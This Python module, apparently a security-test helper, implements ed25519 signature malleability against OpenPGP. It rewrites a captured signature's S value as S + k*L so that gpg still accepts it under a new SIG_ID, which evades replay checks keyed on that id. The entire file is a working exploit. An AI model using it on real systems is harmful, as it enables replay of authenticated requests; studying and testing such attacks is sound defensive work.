"""Re-encode an OpenPGP signature without the secret key (signature malleability).

An EdDSA (ed25519) signature is (R, S) with S < L, the group order. Verifiers that do
not check S < L (libgcrypt, as used by gpg 2.2, does not) also accept S + k*L for every k
that still fits in 32 bytes: up to 16 encodings of one signature over the same message,
each with a different gpg SIG_ID. Anyone holding a captured signed message can make
them. This is what an attacker does to a captured plain-script request to get around a
replay record keyed on the signature id.
"""

from __future__ import annotations

ED25519_ORDER = 2**252 + 27742317777372353535851937790883648493


def _packets(data: bytes) -> list[tuple[int, bytes]]:
    """(tag, body) of each packet; old and new packet formats with definite lengths."""
    out: list[tuple[int, bytes]] = []
    i = 0
    while i < len(data):
        ctb = data[i]
        if not ctb & 0x80:
            raise ValueError("not an OpenPGP packet")
        if ctb & 0x40:  # new format
            tag, first = ctb & 0x3F, data[i + 1]
            if first < 192:
                length, head = first, 2
            elif first < 224:
                length, head = ((first - 192) << 8) + data[i + 2] + 192, 3
            elif first == 255:
                length, head = int.from_bytes(data[i + 2 : i + 6], "big"), 6
            else:
                raise ValueError("partial body lengths are not supported here")
        else:
            tag, kind = (ctb >> 2) & 0x0F, ctb & 3
            size = {0: 1, 1: 2, 2: 4}.get(kind)
            if size is None:
                raise ValueError("indeterminate length is not supported here")
            length, head = int.from_bytes(data[i + 1 : i + 1 + size], "big"), 1 + size
        out.append((tag, data[i + head : i + head + length]))
        i += head + length
    return out


def _packet(tag: int, body: bytes) -> bytes:
    """A new-format packet with a five-octet length."""
    return bytes([0xC0 | tag, 255]) + len(body).to_bytes(4, "big") + body


def reencode_eddsa_signature(message: bytes, k: int = 1) -> bytes:
    """``message`` (binary, uncompressed signed message) with its one v4 EdDSA signature
    re-encoded as S + k*L: the same signature to gpg, a different SIG_ID."""
    out = b""
    for tag, body in _packets(message):
        out += _packet(tag, _reencode(body, k) if tag == 2 else body)
    return out


def _reencode(sig: bytes, k: int) -> bytes:
    if sig[0] != 4 or sig[2] != 22:
        raise ValueError("expected a v4 EdDSA signature")
    pos = 4
    pos += 2 + int.from_bytes(sig[pos : pos + 2], "big")  # hashed subpackets
    pos += 2 + int.from_bytes(sig[pos : pos + 2], "big")  # unhashed subpackets
    pos += 2  # left 16 bits of the digest
    r_bits = int.from_bytes(sig[pos : pos + 2], "big")
    s_at = pos + 2 + (r_bits + 7) // 8
    s_bits = int.from_bytes(sig[s_at : s_at + 2], "big")
    s_raw = sig[s_at + 2 : s_at + 2 + (s_bits + 7) // 8].rjust(32, b"\0")
    value = int.from_bytes(s_raw, "little") + k * ED25519_ORDER
    if value >= 2**256:
        raise ValueError(f"S + {k}L does not fit in 32 bytes")
    forged = value.to_bytes(32, "little")
    as_mpi = int.from_bytes(forged, "big")
    mpi = as_mpi.bit_length().to_bytes(2, "big") + forged.lstrip(b"\0")
    return sig[:s_at] + mpi + sig[s_at + 2 + (s_bits + 7) // 8 :]
